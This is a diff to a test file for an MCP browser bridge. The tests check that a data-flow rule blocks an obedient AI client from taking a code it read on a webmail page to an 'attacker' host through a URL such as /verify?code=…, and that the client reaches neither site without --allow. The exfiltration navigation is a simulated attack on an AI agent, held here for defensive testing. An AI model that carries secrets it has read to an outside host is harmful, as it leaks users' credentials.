@@ -1,5 +1,5 @@
-// The MCP bridge under the data-flow rule, in both browsers: an obedient MCP client that the developer
-// allowed on both sites (`--allow` for the webmail and for another host) reads a code on the webmail,
+// The MCP bridge under the data-flow rule, in both browsers: with no `--allow`, an obedient MCP client
+// reaches neither site; allowed on both (`--allow` for the webmail and for another host), it reads a code on the webmail,
 // through Bosun's snapshot or the bridge's own cookie list, and is told to carry it to the other host.
 // Headless, nobody can approve that, so the navigation is refused; the other host's server log holds
 // no byte of the code, while a navigation there that carries nothing read goes ahead.
@@ -47,6 +47,20 @@ describe.each(BROWSERS)('the MCP bridge under the data-flow rule in %s', { timeo
     // The developer's own navigation there, carrying nothing read, needs no one.
     await bridge.data('browser_navigate', { url: `${hosts.attacker.url}/help` });
     expect(hosts.attacker.log.map((r) => r.path)).toContain('/help');
+    expect(leaked(code)).toBe(0);
+  });
+
+  it('with no --allow at all, the client can neither open the webmail, list its cookies nor go to the other host', async () => {
+    code = `K${randomInt(100_000, 1_000_000)}Q`;
+    const bridge = await bridgeWith();
+    const seen = { mail: hosts.mail.log.length, attacker: hosts.attacker.log.length };
+    expect(await bridge.call('browser_navigate', { url: `${hosts.mail.url}/mail.html` })).toMatchObject(refused);
+    expect(await bridge.call('browser_cookies', { action: 'list' })).toMatchObject({ isError: true });
+    expect(await bridge.call('browser_navigate', { url: `${hosts.attacker.url}/verify?code=${code}` })).toMatchObject(
+      refused,
+    );
+    expect(hosts.mail.log.length - seen.mail).toBe(0);
+    expect(hosts.attacker.log.length - seen.attacker).toBe(0);
     expect(leaked(code)).toBe(0);
   });
 
